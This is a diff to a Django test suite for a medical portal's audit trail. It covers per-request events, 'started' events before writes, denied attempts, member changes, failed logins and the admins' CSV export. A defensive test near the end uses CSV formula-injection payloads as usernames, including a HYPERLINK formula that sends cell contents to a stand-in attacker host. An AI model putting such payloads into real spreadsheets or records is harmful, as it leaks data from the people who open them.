@@ -1,5 +1,6 @@
-"""The audit trail: exactly one event per request to every patient-data route, denied attempts
-included, events from tasks and sign-in failures, append-only rows, and the admins' log view."""
+"""The audit trail: exactly one event per request to every patient-data and organisation route
+(a write also records `started` before its view runs), denied attempts included, events from
+tasks, sign-in failures and member changes, append-only rows, and the admins' log view and CSV."""
 
 from __future__ import annotations
 
@@ -11,13 +12,14 @@ from django.contrib.auth.models import User
 from django.test import Client
 from django.urls import reverse
 
-from diagnosis.audit import AUDITED_ADMIN_MODELS, AUDITED_ROUTES
-from diagnosis.models import AuditEvent, AuditOutcome
+from diagnosis.audit import AUDITED_ADMIN_MODELS, AUDITED_ORGANISATION_ROUTES, AUDITED_ROUTES
+from diagnosis.models import AuditEvent, AuditOutcome, Membership, Role
 from tests.portal.helpers import PASSWORD, RED, image_bytes
 from tests.portal.urlwalk import url_routes
 
-# Named routes that show no patient data (health, sign-in, the caller's own account, members,
-# operations counters, API schema and docs, the audit log itself).
+# Named routes that show no patient data and change no member (health, sign-in, the caller's own
+# account, operations counters, API schema and docs). The organisation pages (members, audit log)
+# are audited too: AUDITED_ORGANISATION_ROUTES.
 NOT_PATIENT_DATA = {
     "healthz",
     "readyz",
@@ -29,11 +31,14 @@ NOT_PATIENT_DATA = {
     "password_reset_done",
     "password_reset_confirm",
     "password_reset_complete",
-    "organisation-detail",
-    "organisation-member-remove",
-    "organisation-audit",
     "ops",
     "api-token",
+    "api-token-list",
+    "api-token-detail",
+    "api-token-rotate",
+    "account-api-tokens",
+    "account-api-token-revoke",
+    "account-api-token-rotate",
     "api-me",
     "api-schema",
     "api-docs",
@@ -54,15 +59,21 @@ def _new_events(since: int) -> list[AuditEvent]:
     return list(AuditEvent.objects.filter(pk__gt=since).exclude(surface="task").order_by("pk"))
 
 
+def _outcome_event(response) -> AuditEvent:
+    """The request's one outcome event, the one with its status (a write has a `started` event
+    before it; a member change its own event)."""
+    return AuditEvent.objects.get(request_id=response["X-Request-ID"], status_code__isnull=False)
+
+
 def _last_id() -> int:
     return AuditEvent.objects.order_by("-pk").values_list("pk", flat=True).first() or 0
 
 
 def test_it_lists_every_route_as_audited_or_as_holding_no_patient_data():
     names = {r.name for r in url_routes() if r.namespace != "admin" and r.name}
-    unclassified = names - set(AUDITED_ROUTES) - NOT_PATIENT_DATA
+    unclassified = names - set(AUDITED_ROUTES) - set(AUDITED_ORGANISATION_ROUTES) - NOT_PATIENT_DATA
     assert unclassified == set(), "add these routes to diagnosis/audit.py AUDITED_ROUTES or to NOT_PATIENT_DATA"
-    assert set(AUDITED_ROUTES) <= names  # no stale entries
+    assert set(AUDITED_ROUTES) | set(AUDITED_ORGANISATION_ROUTES) <= names  # no stale entries
 
 
 def test_it_records_exactly_one_event_per_request_on_every_patient_data_route(victim, owner, api_for):
@@ -80,6 +91,10 @@ def test_it_records_exactly_one_event_per_request_on_every_patient_data_route(vi
             method, response = "GET", surface_client.get(url)
         before = _last_id_before(response)
         events = _new_events(before)
+        if method == "POST":  # a write: `started` first, committed before the view ran
+            started = events.pop(0)
+            assert (started.action, started.route, started.actor_id) == ("started", name, owner.pk), name
+            assert started.status_code is None and started.request_id == response["X-Request-ID"]
         assert len(events) == 1, (name, [(e.route, e.action) for e in events])
         event = events[0]
         assert event.route == name and event.method == method, name
@@ -113,7 +128,7 @@ def test_it_records_what_a_request_created(owner, org, client_for):
         reverse("patient-create"), {"organisation": org.pk, "external_id": "N-1", "name": "New", "sex": "unknown"}
     )
     assert response.status_code == 302
-    event = AuditEvent.objects.get(request_id=response["X-Request-ID"])
+    event = _outcome_event(response)
     assert (event.action, event.object_type, event.organisation_id) == ("create", "patient", org.pk)
     assert event.object_id == int(response["Location"].rstrip("/").split("/")[-1])
 
@@ -121,7 +136,7 @@ def test_it_records_what_a_request_created(owner, org, client_for):
 def test_it_records_a_denied_attempt_under_the_targeted_organisation(victim, outsider, api_for):
     response = api_for(outsider).delete(reverse("api-patient-detail", kwargs={"patient_id": victim["patient_id"]}))
     assert response.status_code == 404
-    event = AuditEvent.objects.get(request_id=response["X-Request-ID"])
+    event = _outcome_event(response)
     assert event.outcome == AuditOutcome.DENIED and event.actor_username == "charlie"
     assert event.organisation_id == victim["organisation_id"]  # the victim's admins see it in their log
     assert (event.object_type, event.object_id, event.method) == ("patient", victim["patient_id"], "DELETE")
@@ -130,7 +145,7 @@ def test_it_records_a_denied_attempt_under_the_targeted_organisation(victim, out
 def test_it_records_a_refused_write(reader, patient, client_for):
     response = client_for(reader).post(reverse("patient-edit", args=[patient.pk]), {"name": "X"})
     assert response.status_code == 403
-    event = AuditEvent.objects.get(request_id=response["X-Request-ID"])
+    event = _outcome_event(response)
     assert (event.outcome, event.action, event.actor_username) == (AuditOutcome.DENIED, "update", "rita")
 
 
@@ -157,8 +172,8 @@ def test_it_keeps_patient_data_out_of_events(owner, patient, client_for):
 
 
 def test_it_refuses_to_change_or_delete_events(owner, patient, client_for):
-    client_for(owner).get(reverse("patient-detail", args=[patient.pk]))
-    event = AuditEvent.objects.get()
+    response = client_for(owner).get(reverse("patient-detail", args=[patient.pk]))
+    event = AuditEvent.objects.get(request_id=response["X-Request-ID"])
     event.action = "nothing happened"
     with pytest.raises(PermissionError):
         event.save()
@@ -170,7 +185,7 @@ def test_it_refuses_to_change_or_delete_events(owner, patient, client_for):
         AuditEvent.objects.filter(pk=event.pk).delete()
     with pytest.raises(PermissionError):
         AuditEvent.objects.bulk_update([event], ["action"])
-    assert AuditEvent.objects.get().action == "view"
+    assert AuditEvent.objects.get(pk=event.pk).action == "view"
 
 
 def test_it_records_admin_site_access_to_patient_data(victim, owner):
@@ -246,3 +261,200 @@ def test_it_withholds_the_answer_when_the_event_cannot_be_written(owner, patient
     response = api_for(owner).get(f"/api/v1/patients/{patient.pk}/")
     assert response.status_code == 503 and response.json()["error"]["code"] == "audit_unavailable"
     assert patient.name not in response.content.decode()
+
+
+# --- Sign-in attempts, members and organisation pages in the organisation's own log --------------
+
+
+def _log(client, organisation_id: int, **filters) -> list[dict[str, str]]:
+    response = client.get(
+        reverse("organisation-audit", kwargs={"organisation_id": organisation_id}), {"format": "csv", **filters}
+    )
+    assert response.status_code == 200
+    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
+
+
+def test_it_shows_failed_logins_and_lockouts_of_members_in_their_organisations_log(owner, org, other_org, client):
+    Membership.objects.create(user=owner, organisation=other_org, role=Role.CLINICIAN)  # alice works at both
+    for _ in range(5):
+        client.post(reverse("login"), {"username": "alice", "password": "wrong-password-123"})
+    assert client.post(reverse("login"), {"username": "alice", "password": PASSWORD}).status_code == 429
+    client.post(reverse("login"), {"username": "nobody-here", "password": "wrong-password-123"})
+
+    for organisation in (org, other_org):  # one event per organisation of the username tried
+        events = AuditEvent.objects.filter(organisation_id=organisation.pk, object_type="user")
+        assert sorted({e.action for e in events}) == ["locked_out", "login_failed"], organisation
+        assert {(e.actor_username, e.object_id, e.outcome) for e in events} == {("alice", owner.pk, "denied")}
+    unknown = AuditEvent.objects.get(actor_username="nobody-here")
+    assert unknown.organisation_id is None  # an unknown username belongs to no organisation's log
+
+    owner_client = Client()
+    owner_client.force_login(owner)
+    rows = _log(owner_client, org.pk, actor="alice")
+    assert {"login_failed", "locked_out"} <= {row["action"] for row in rows}
+
+
+def test_it_records_every_member_change_in_the_organisations_log(owner, org, client_for):
+    newcomer = User.objects.create_user("nina", password=PASSWORD)
+    client = client_for(owner)
+    url = reverse("organisation-detail", kwargs={"organisation_id": org.pk})
+    added = client.post(url, {"username": "nina", "role": Role.CLINICIAN}, HTTP_X_REQUEST_ID="req-add-1")
+    changed = client.post(url, {"username": "nina", "role": Role.ADMIN})
+    unchanged = client.post(url, {"username": "nina", "role": Role.ADMIN})
+    membership = Membership.objects.get(user=newcomer, organisation=org)
+    removed = client.post(
+        reverse("organisation-member-remove", kwargs={"organisation_id": org.pk, "membership_id": membership.pk})
+    )
+    assert [r.status_code for r in (added, changed, unchanged, removed)] == [302, 302, 302, 302]
+
+    members = AuditEvent.objects.filter(object_type="member", object_id=newcomer.pk).order_by("pk")
+    assert [e.action for e in members] == ["add:clinician", "role:admin", "remove:admin"]
+    for event, response in zip(members, (added, changed, removed)):
+        assert (event.actor_username, event.organisation_id, event.surface) == ("alice", org.pk, "page")
+        assert event.request_id == response["X-Request-ID"] and event.ip == "127.0.0.1"
+    assert members[0].request_id == "req-add-1"
+    # Each request also has its own outcome event on the organisation route.
+    outcome = _outcome_event(removed)
+    assert (outcome.route, outcome.action, outcome.outcome) == ("organisation-member-remove", "member_remove", "ok")
+
+    rows = _log(client, org.pk, object_type="member")
+    assert [row["action"] for row in rows if row["object_id"] == str(newcomer.pk)] == [
+        "remove:admin",
+        "role:admin",
+        "add:clinician",
+    ]
+
+
+def test_it_records_member_changes_made_outside_the_pages(owner, org):
+    newcomer = User.objects.create_user("olga", password=PASSWORD)
+    membership = Membership.objects.create(user=newcomer, organisation=org, role=Role.READONLY)  # admin site, shell
+    membership.delete()
+    events = AuditEvent.objects.filter(object_type="member", object_id=newcomer.pk).order_by("pk")
+    assert [(e.action, e.surface, e.organisation_id, e.actor_id) for e in events] == [
+        ("add:readonly", "command", org.pk, None),
+        ("remove:readonly", "command", org.pk, None),
+    ]
+
+
+def test_it_records_every_request_to_an_organisation_route_and_denied_attempts_on_them(
+    victim, owner, colleague, outsider, client
+):
+    org_id, membership_id = victim["organisation_id"], victim["membership_id"]
+    urls = {
+        "organisation-detail": reverse("organisation-detail", kwargs={"organisation_id": org_id}),
+        "organisation-audit": reverse("organisation-audit", kwargs={"organisation_id": org_id}),
+        "organisation-member-remove": reverse(
+            "organisation-member-remove", kwargs={"organisation_id": org_id, "membership_id": membership_id}
+        ),
+    }
+    assert set(urls) == set(AUDITED_ORGANISATION_ROUTES)
+    attempts = [
+        # (who, route, method, data, status, outcome)
+        (owner, "organisation-detail", "get", None, 200, "ok"),
+        (owner, "organisation-audit", "get", None, 200, "ok"),
+        (owner, "organisation-member-remove", "post", {}, 302, "ok"),  # refused: the last admin stays
+        (colleague, "organisation-detail", "post", {"username": "charlie", "role": "admin"}, 403, "denied"),
+        (colleague, "organisation-audit", "get", None, 403, "denied"),
+        (colleague, "organisation-member-remove", "post", {}, 403, "denied"),
+        (outsider, "organisation-detail", "get", None, 404, "denied"),
+        (outsider, "organisation-detail", "post", {"username": "charlie", "role": "admin"}, 404, "denied"),
+        (outsider, "organisation-audit", "get", None, 404, "denied"),
+        (outsider, "organisation-member-remove", "post", {}, 404, "denied"),
+    ]
+    for user, name, method, data, status, outcome in attempts:
+        client.force_login(user)
+        response = getattr(client, method)(urls[name], data)
+        assert response.status_code == status, (user.username, name, method)
+        events = list(AuditEvent.objects.filter(request_id=response["X-Request-ID"]).order_by("pk"))
+        if method == "post":
+            assert events[0].action == "started", (user.username, name)
+            events = events[1:]
+        assert len(events) == 1, (user.username, name, [(e.action, e.outcome) for e in events])
+        event = events[0]
+        assert (event.route, event.outcome, event.status_code) == (name, outcome, status), (user.username, name)
+        assert event.actor_username == user.username
+        # Filed under the organisation aimed at, outsiders' attempts included: its admins see them.
+        assert event.organisation_id == org_id, (user.username, name)
+    assert Membership.objects.filter(pk=membership_id).exists()  # nothing an attempt changed
+
+
+def test_it_records_an_error_event_when_a_view_raises(owner, patient, api_for, client_for, monkeypatch):
+    def broken(**kwargs):
+        raise RuntimeError("boom")
+
+    monkeypatch.setattr("diagnosis.services.patients.patient_update", broken)
+    api = api_for(owner)
+    api.raise_request_exception = False
+    response = api.patch(f"/api/v1/patients/{patient.pk}/", {"name": "X"}, format="json")
+    assert response.status_code == 500
+    assert (_outcome_event(response).outcome, _outcome_event(response).status_code) == ("error", 500)
+    page = client_for(owner)
+    page.raise_request_exception = False
+    response = page.post(reverse("patient-edit", args=[patient.pk]), {"external_id": "MRN-001", "name": "Y", "sex": "female"})
+    assert response.status_code == 500
+    event = _outcome_event(response)
+    assert (event.route, event.action, event.outcome, event.actor_username) == ("patient-edit", "update", "error", "alice")
+
+
+def test_it_leaves_a_started_event_when_a_write_is_killed_mid_way(owner, patient, api_for, monkeypatch):
+    """A worker killed inside the view (gunicorn's timeout raises SystemExit in the request; a
+    SIGKILL stops it dead) writes no outcome: the `started` event, committed before, is the trace."""
+
+    def killed(**kwargs):
+        raise SystemExit(1)
+
+    monkeypatch.setattr("diagnosis.services.patients.patient_update", killed)
+    before = _last_id()
+    with pytest.raises(SystemExit):
+        api_for(owner).patch(
+            f"/api/v1/patients/{patient.pk}/", {"name": "X"}, format="json", HTTP_X_REQUEST_ID="killed-1"
+        )
+    (event,) = _new_events(before)
+    assert (event.action, event.route, event.method, event.request_id) == ("started", "api-patient-detail", "PATCH", "killed-1")
+    assert (event.actor_username, event.organisation_id, event.object_id) == ("alice", patient.organisation_id, patient.pk)
+    assert event.status_code is None
+
+
+def test_it_refuses_a_write_whose_started_event_cannot_be_written(owner, patient, api_for, monkeypatch):
+    def broken(**kwargs):
+        raise RuntimeError("database away")
+
+    monkeypatch.setattr("diagnosis.audit.audit_request_started", broken)
+    response = api_for(owner).patch(f"/api/v1/patients/{patient.pk}/", {"name": "Changed"}, format="json")
+    assert response.status_code == 503 and response.json()["error"]["code"] == "audit_unavailable"
+    patient.refresh_from_db()
+    assert patient.name == "Ada Lovelace"  # the view never ran
+
+
+# --- CSV formula injection ----------------------------------------------------------------------
+
+
+def test_it_neutralises_spreadsheet_formulas_in_the_audit_csv(victim, owner, org, outsider, api_for, client_for):
+    """Cells that start with = + - @ tab or CR are formulas to a spreadsheet: a username such as
+    =HYPERLINK(...) (a member's) or a request id such as -A1-B1 (anyone's, even another
+    organisation's user aiming at this one's ids) must reach the admin's CSV as plain text."""
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-A1-B1", "@SUM(A1)", "\tx=1", "\rx=1"]
+    for name in hostile:
+        user = User.objects.create_user(name, password=PASSWORD)
+        Membership.objects.create(user=user, organisation=org, role=Role.CLINICIAN)
+        api_for(user).get(f"/api/v1/patients/{victim['patient_id']}/")
+    forged = api_for(outsider).get(f"/api/v1/patients/{victim['patient_id']}/", HTTP_X_REQUEST_ID="-A1-B1")
+    assert forged.status_code == 404 and forged["X-Request-ID"] != "-A1-B1"
+
+    response = client_for(owner).get(
+        reverse("organisation-audit", kwargs={"organisation_id": org.pk}), {"format": "csv"}
+    )
+    text = b"".join(response.streaming_content).decode()
+    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], "a formula cell"
+    usernames = {row["actor_username"] for row in csv.DictReader(io.StringIO(text, newline=""))}
+    assert {f"'{name}" for name in hostile} <= usernames  # kept, readable, inert
+
+
+def test_it_keeps_only_a_sane_request_id(owner, patient, client_for):
+    client = client_for(owner)
+    url = reverse("patient-detail", args=[patient.pk])
+    assert client.get(url, HTTP_X_REQUEST_ID="proxy-7f3a.1_b")["X-Request-ID"] == "proxy-7f3a.1_b"
+    for bad in ("-A1-B1", "=1+1", "@x", ".hidden", "a" * 65, "a b", "é"):
+        answered = client.get(url, HTTP_X_REQUEST_ID=bad)["X-Request-ID"]
+        assert answered != bad and len(answered) == 32, bad  # a fresh uuid instead, never an error
